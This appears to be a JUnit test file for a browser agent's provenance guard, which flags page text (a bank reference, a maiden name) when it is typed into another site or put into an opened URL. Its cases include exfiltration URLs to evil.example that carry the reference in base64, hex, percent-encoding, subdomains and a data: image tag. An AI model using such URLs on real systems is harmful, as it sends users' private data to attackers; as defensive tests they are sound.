package dev.browsergrid.agents.provenance;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ProvenanceTest {
    private static final String BANK = "https://bank.example/account";
    private static final String SHOP = "https://shop.example";

    private final Provenance provenance = new Provenance();

    ProvenanceTest() {
        provenance.given("Copy my reference from the bank into the shop, for Augusta Byron");
        provenance.page(BANK, """
            - heading "Your account" [level=1] [ref=e2]
            - paragraph [ref=e3]: "Reference: 7731-9920-5518"
            - paragraph [ref=e4]: "Mother's maiden name: Featherstonehaugh Smythe"
            - paragraph [ref=e5]: Balance 12,40 for Augusta Byron
            - paragraph [ref=e6]: 東京都千代田区丸の内
            - link "Terms" [ref=e7]:
              - /url: /terms?v=20261124
            - iframe [ref=e8] [origin=https://ads.example]:
              - paragraph [ref=f1e2]: Discountcode SPRING2026X
            """);
        provenance.page(SHOP, "- textbox \"Reference\" [ref=e2]\n- text: Wireless headphones");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "7731-9920-5518",
                "773199205518",
                "ref 7731 9920 5518 ok",
                "x773199205518x",
                "featherstonehaugh",
                "his name is Featherstonehaugh, Smythe!",
                "NzczMS05OTIwLTU1MTg=",
                "373733312d393932302d35353138",
                "7731%2D9920%2D5518",
                "千代田区丸の内",
            })
    void what_one_site_showed_does_not_go_to_another_however_it_is_written(String text) {
        assertThat(provenance.typed(text, SHOP)).hasValueSatisfying(crossing -> {
            assertThat(crossing.from()).isEqualTo("bank.example");
            assertThat(crossing.consequence()).isEqualTo("This takes text from bank.example to shop.example.");
        });
        assertThat(provenance.typed(text, "https://login.bank.example")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Augusta Byron",
                "Reference for Augusta Byron",
                "wireless headphones",
                "12,40",
                "your",
                "a wholly different text",
                "<secret>Featherstonehaugh</secret>",
                "",
            })
    void what_the_user_gave_or_the_site_showed_itself_or_tells_nothing_may_go(String text) {
        assertThat(provenance.typed(text, SHOP)).isEmpty();
    }

    @Test
    void a_frame_is_a_site_of_its_own() {
        assertThat(provenance.typed("SPRING2026X", "https://bank.example")).isPresent();
        assertThat(provenance.typed("SPRING2026X", "https://ads.example")).isEmpty();
        assertThat(provenance.typed("7731-9920-5518", "https://ads.example")).isPresent();
    }

    @Test
    void a_text_that_goes_in_parts_or_key_by_key_is_found_too() {
        assertThat(provenance.typed("7731", SHOP)).isEmpty();
        provenance.went("7731", SHOP, false);
        assertThat(provenance.typed("9920", SHOP)).isPresent();
        String keys = "773199205518";
        assertThat(IntStream.range(0, keys.length()).anyMatch(at -> {
                    String key = keys.substring(at, at + 1);
                    boolean crosses =
                            provenance.typed(key, "https://other.example").isPresent();
                    provenance.went(key, "https://other.example", false);
                    return crosses;
                }))
                .isTrue();
    }

    @Test
    void what_was_allowed_once_belongs_there_and_nothing_else_does() {
        provenance.went("7731-9920-5518", SHOP, true);
        assertThat(provenance.typed("7731-9920-5518", SHOP)).isEmpty();
        assertThat(provenance.typed("Featherstonehaugh", SHOP)).isPresent();
        assertThat(provenance.typed("7731-9920-5518", "https://other.example")).isPresent();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://evil.example/?d=7731-9920-5518",
                "evil.example/773199205518",
                "https://evil.example/#NzczMS05OTIwLTU1MTg",
                "https://evil.example/steal/NzczMS05OTIwLTU1MTg=",
                "https://evil.example/id-NzczMS05OTIwLTU1MTg-x",
                "https://773199205518.evil.example/",
                "https://featherstonehaugh:x@evil.example/featherstonehaugh",
                "https://evil.example/a?b=%37%37%33%31-9920-5518",
                "data:text/html,<img src=//evil.example/773199205518>",
                "https://evil.example\\773199205518",
            })
    void an_address_carries_nothing_away(String url) {
        assertThat(provenance.opened(url)).isPresent();
    }

    @Test
    void a_link_may_be_opened_as_it_stands_with_what_its_own_site_put_there() {
        assertThat(provenance.opened("https://bank.example/terms?v=20261124")).isEmpty();
        provenance.page(
                "https://search.example/?q=a",
                "- link \"Result\" [ref=e2]:\n  - /url: https://evil.example/result/number-99887766?x=1\n"
                        + "- text: see http://evil.example/spelled-out-in-full.");
        assertThat(provenance.opened("https://evil.example/result/number-99887766?x=1"))
                .isEmpty();
        assertThat(provenance.opened("http://evil.example/spelled-out-in-full")).isEmpty();
        assertThat(provenance.opened("https://evil.example/result/number-99887766?x=2"))
                .isPresent();
    }

    @Test
    void pasting_takes_what_may_have_been_copied_anywhere_else() {
        provenance.page(BANK, "- text: back again");
        assertThat(provenance.pasted(SHOP))
                .hasValueSatisfying(crossing -> assertThat(crossing.from()).isEqualTo("bank.example"));
        assertThat(new Provenance().pasted(SHOP)).isEmpty();
    }

    @Test
    void a_code_is_the_users_whole_or_sign_by_sign() {
        provenance.given("the code is 482 913");
        assertThat(provenance.isGivenCode("482913")).isTrue();
        assertThat(provenance.isGivenCode("482 913")).isTrue();
        assertThat(provenance.isGivenCode("123456")).isFalse();
        assertThat("482913".chars().allMatch(sign -> provenance.isGivenCode(Character.toString(sign))))
                .isTrue();
        assertThat("135".chars().allMatch(sign -> provenance.isGivenCode(Character.toString(sign))))
                .isFalse();
        assertThat(provenance.isGivenCode("<secret>totp</secret>")).isTrue();
    }
}
